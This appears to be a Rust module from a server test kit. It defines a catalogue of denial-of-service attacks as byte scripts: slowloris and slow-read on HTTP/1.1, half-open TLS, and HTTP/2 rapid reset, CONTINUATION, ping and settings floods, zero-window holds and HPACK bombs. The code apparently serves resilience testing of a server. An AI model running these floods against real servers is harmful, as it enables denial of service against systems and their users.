//! The attacks: what each sends when a connection opens, and again and again after that.
//!
//! Each fills a buffer; it knows neither sockets nor time, nor how the server takes it.

use portway_testkit::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, literal,
};

use super::wire::Script;

/// One attack.
pub(crate) struct Attack {
    pub(crate) name: &'static str,
    pub(crate) layer: Layer,
    /// The beginning of a connection.
    pub(crate) open: fn(&mut Script),
    /// One step more.
    pub(crate) step: fn(&mut Script),
    pub(crate) pace: Pace,
    pub(crate) reading: Reading,
}

/// What the attack is spoken over.
#[derive(Clone, Copy, PartialEq, Eq)]
pub(crate) enum Layer {
    /// Bytes where a TLS handshake is expected.
    Tcp,
    /// HTTP/1.1 over TLS.
    Http1,
    /// HTTP/2 over TLS.
    Http2,
}

/// How often a connection takes a step.
#[derive(Clone, Copy)]
pub(crate) enum Pace {
    /// As often as `--rate` says.
    Flood,
    /// The same, but no more than this often; then the connection is held.
    Hold(u64),
    /// Once a second.
    Slow,
}

/// What the attacker does with the answers.
#[derive(Clone, Copy, PartialEq, Eq)]
pub(crate) enum Reading {
    Eager,
    /// A KiB a second.
    Slow,
    /// Nothing after the server's settings.
    Never,
}

/// As many as a server commonly allows at once.
const STREAMS: u64 = 100;
const LARGEST_WINDOW: u32 = 0x7fff_ffff;
/// INITIAL_WINDOW_SIZE (RFC 9113 6.5.2).
const INITIAL_WINDOW: [u8; 2] = [0, 4];
/// The newest entry of the dynamic table, as one byte (RFC 7541 6.1).
const NEWEST: u8 = 0x80 | 62;

const fn flood(name: &'static str, step: fn(&mut Script)) -> Attack {
    Attack { name, layer: Layer::Http2, open: greet, step, pace: Pace::Flood, reading: Reading::Eager }
}

const fn slow(name: &'static str, layer: Layer, open: fn(&mut Script), step: fn(&mut Script)) -> Attack {
    Attack { name, layer, open, step, pace: Pace::Slow, reading: Reading::Eager }
}

pub(crate) const ATTACKS: &[Attack] = &[
    slow("slowloris", Layer::Http1, |s| s.http1("GET / HTTP/1.1", ""), |s| s.text("X-A: b\r\n")),
    slow(
        "slow-body",
        Layer::Http1,
        |s| s.http1("POST /never HTTP/1.1", "Content-Length: 100000\r\n\r\n"),
        |s| s.text("b"),
    ),
    Attack {
        reading: Reading::Slow,
        ..slow("slow-read", Layer::Http1, |s| s.http1("GET /big HTTP/1.1", "\r\n"), |_| {})
    },
    slow("half-open-tls", Layer::Tcp, |s| s.out.extend([22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3]), |s| s.out.push(0)),
    Attack { layer: Layer::Http1, open: |s| s.http1("GET / HTTP/1.1", ""), ..flood("many-fields", many_fields) },
    Attack {
        layer: Layer::Http1,
        open: |s| s.http1("GET / HTTP/1.1", "X-A: "),
        ..flood("huge-field", |s| s.text(&"b".repeat(1024)))
    },
    flood("rapid-reset", |s| {
        s.request(b"/", END_STREAM, &[]);
        // CANCEL
        s.frame(RST_STREAM, 0, s.stream, &[0, 0, 0, 8]);
    }),
    flood("reset-by-window-of-0", |s| {
        s.request(b"/never", 0, &[]);
        s.frame(WINDOW_UPDATE, 0, s.stream, &[0; 4]);
    }),
    flood("reset-by-window-past-2^31", |s| {
        s.request(b"/never", 0, &[]);
        s.frame(WINDOW_UPDATE, 0, s.stream, &LARGEST_WINDOW.to_be_bytes());
    }),
    flood("reset-by-headers-after-end", |s| {
        s.request(b"/never", END_STREAM, &[]);
        s.frame(HEADERS, END_HEADERS | END_STREAM, s.stream, &literal(b"x-a", b"b"));
    }),
    flood("reset-by-data-after-end", |s| {
        s.request(b"/never", END_STREAM, &[]);
        s.frame(DATA, 0, s.stream, b"b");
    }),
    flood("reset-by-priority-length", |s| {
        s.request(b"/never", 0, &[]);
        s.frame(PRIORITY, 0, s.stream, &[0; 4]);
    }),
    flood("reset-by-priority-on-itself", |s| {
        s.request(b"/never", 0, &[]);
        let on = s.stream.to_be_bytes();
        s.frame(PRIORITY, 0, s.stream, &[&on[..], &[0]].concat());
    }),
    flood("reset-by-data-past-length", |s| {
        s.request(b"/never", 0, &literal(b"content-length", b"1"));
        s.frame(DATA, 0, s.stream, b"bb");
    }),
    flood("continuation", |s| unended(s, &literal(b"x-a", b"b"))),
    flood("empty-continuation", |s| unended(s, &[])),
    Attack { open: open_post, ..flood("empty-data", |s| s.frame(DATA, 0, s.stream, &[])) },
    Attack { open: open_post, ..flood("data-of-one-byte", |s| s.frame(DATA, 0, s.stream, b"b")) },
    flood("empty-headers", |s| {
        s.next_stream();
        s.frame(HEADERS, END_HEADERS | END_STREAM, s.stream, &[]);
    }),
    flood("settings", |s| s.frame(SETTINGS, 0, 0, &setting(LARGEST_WINDOW))),
    flood("ping", |s| s.frame(PING, 0, 0, &[0; 8])),
    Attack { reading: Reading::Never, ..flood("ping-unread", |s| s.frame(PING, 0, 0, &[0; 8])) },
    flood("priority", |s| {
        s.idle += 2;
        s.frame(PRIORITY, 0, s.idle, &[0, 0, 0, 0, 16]);
    }),
    Attack {
        open: greet_closed,
        pace: Pace::Hold(STREAMS),
        ..flood("zero-window", |s| s.request(b"/big", END_STREAM, &[]))
    },
    Attack {
        reading: Reading::Never,
        pace: Pace::Hold(STREAMS),
        ..flood("unread", |s| s.request(b"/big", END_STREAM, &[]))
    },
    // Past every limit of a head; as much as a head may be; and as many fields as fit in one.
    Attack { open: open_large, ..flood("hpack-bomb", |s| s.request(b"/big", END_STREAM, &[NEWEST; 4000])) },
    Attack { open: open_large, ..flood("hpack-large-heads", |s| s.request(b"/big", END_STREAM, &[NEWEST; 7])) },
    Attack { open: open_crumb, ..flood("hpack-many-fields", |s| s.request(b"/big", END_STREAM, &[NEWEST; 800])) },
];

fn setting(window: u32) -> Vec<u8> {
    [&INITIAL_WINDOW[..], &window.to_be_bytes()].concat()
}

/// All that the server sends has room.
fn greet(s: &mut Script) {
    s.preface(&setting(LARGEST_WINDOW));
    s.frame(WINDOW_UPDATE, 0, 0, &(LARGEST_WINDOW - 0xffff).to_be_bytes());
}

/// No stream may send a byte.
fn greet_closed(s: &mut Script) {
    s.preface(&setting(0));
}

/// A head that does not end. Nothing else may be said meanwhile, so it does not begin before the settings are done.
fn unended(s: &mut Script, more: &[u8]) {
    if s.is_fresh() {
        s.begin_request(b"/", END_STREAM, &[]);
    }
    s.frame(CONTINUATION, 0, s.stream, more);
}

/// A body that does not end.
fn open_post(s: &mut Script) {
    greet(s);
    s.request(b"/never", 0, &[]);
}

/// An entry as large as the table, less the 32 bytes that count for each.
fn open_large(s: &mut Script) {
    greet_closed(s);
    let field = [&[0x40][..], &literal(b"x-a", &[b'b'; 4000])[1..]].concat();
    s.request(b"/big", END_STREAM, &field);
}

/// A crumb of a cookie: allowed many times (RFC 9113 8.2.3).
fn open_crumb(s: &mut Script) {
    greet_closed(s);
    let field = [&[0x40][..], &literal(b"cookie", b"")[1..]].concat();
    s.request(b"/big", END_STREAM, &field);
}

fn many_fields(s: &mut Script) {
    s.idle += 1;
    let field = format!("X-{}: b\r\n", s.idle);
    s.text(&field);
}
